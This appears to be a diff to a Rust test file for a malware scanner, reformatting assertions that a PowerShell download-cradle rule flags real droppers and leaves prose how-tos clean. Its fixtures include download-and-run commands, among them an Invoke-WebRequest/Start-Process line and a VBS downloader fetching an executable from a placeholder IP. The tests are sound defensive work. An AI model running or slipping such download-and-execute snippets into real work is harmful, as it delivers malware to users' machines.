@@ -27,11 +27,21 @@ fn rule_matched(r: &xferscan::Report, rule: &str) -> bool {
 #[test]
 fn a_how_to_in_prose_is_clean_as_text_markdown_and_html() {
     let r = scan("howto.txt", HOWTO.as_bytes().to_vec());
-    assert!(!rule_matched(&r, "PowerShell_Download_Cradle"), "{:?}", keys(&r));
+    assert!(
+        !rule_matched(&r, "PowerShell_Download_Cradle"),
+        "{:?}",
+        keys(&r)
+    );
     assert_clean(&r);
-    let md = format!("# Updating the agent\n\n{HOWTO}\nFor example: `Invoke-WebRequest $url -OutFile a.msi; Start-Process a.msi`\n");
+    let md = format!(
+        "# Updating the agent\n\n{HOWTO}\nFor example: `Invoke-WebRequest $url -OutFile a.msi; Start-Process a.msi`\n"
+    );
     let r = scan("howto.md", md.into_bytes());
-    assert!(!rule_matched(&r, "PowerShell_Download_Cradle"), "{:?}", keys(&r));
+    assert!(
+        !rule_matched(&r, "PowerShell_Download_Cradle"),
+        "{:?}",
+        keys(&r)
+    );
     assert_clean(&r);
     let html = format!(
         "<!DOCTYPE html><html><head><title>Agent</title></head><body><pre>{}</pre>\
@@ -39,7 +49,11 @@ fn a_how_to_in_prose_is_clean_as_text_markdown_and_html() {
         CRADLE
     );
     let r = scan("howto.html", html.into_bytes());
-    assert!(!rule_matched(&r, "PowerShell_Download_Cradle"), "{:?}", keys(&r));
+    assert!(
+        !rule_matched(&r, "PowerShell_Download_Cradle"),
+        "{:?}",
+        keys(&r)
+    );
     assert_clean(&r);
 }
 
@@ -56,10 +70,18 @@ fn a_how_to_quoting_a_vbs_downloader_in_a_docx_like_xml_is_clean() {
 #[test]
 fn a_real_cradle_vbs_and_batch_dropper_are_still_blocked() {
     let r = scan("update.ps1", CRADLE.as_bytes().to_vec());
-    assert!(rule_matched(&r, "PowerShell_Download_Cradle"), "{:?}", keys(&r));
+    assert!(
+        rule_matched(&r, "PowerShell_Download_Cradle"),
+        "{:?}",
+        keys(&r)
+    );
     // The same bytes by content alone, without a telling name.
     let r = scan("update", CRADLE.as_bytes().to_vec());
-    assert!(rule_matched(&r, "PowerShell_Download_Cradle"), "{:?}", keys(&r));
+    assert!(
+        rule_matched(&r, "PowerShell_Download_Cradle"),
+        "{:?}",
+        keys(&r)
+    );
     let vbs = "Dim o, s\r\nSet o = CreateObject(\"MSXML2.XMLHTTP\")\r\n\
         o.Open \"GET\", \"http://203.0.113.7/p.exe\", False\r\no.Send\r\n\
         Set s = CreateObject(\"ADODB.Stream\")\r\ns.Open\r\ns.Type = 1\r\n\
@@ -79,7 +101,11 @@ fn the_cradle_in_a_page_script_or_an_hta_is_caught() {
         "<!DOCTYPE html><html><body><p>Loading</p><script type=\"text/x-ps\">{CRADLE}</script></body></html>"
     );
     let r = scan("page.html", page.into_bytes());
-    assert!(rule_matched(&r, "PowerShell_Download_Cradle"), "{:?}", keys(&r));
+    assert!(
+        rule_matched(&r, "PowerShell_Download_Cradle"),
+        "{:?}",
+        keys(&r)
+    );
     assert_eq!(r.verdict, Verdict::Malicious);
     let script_obj = r
         .objects
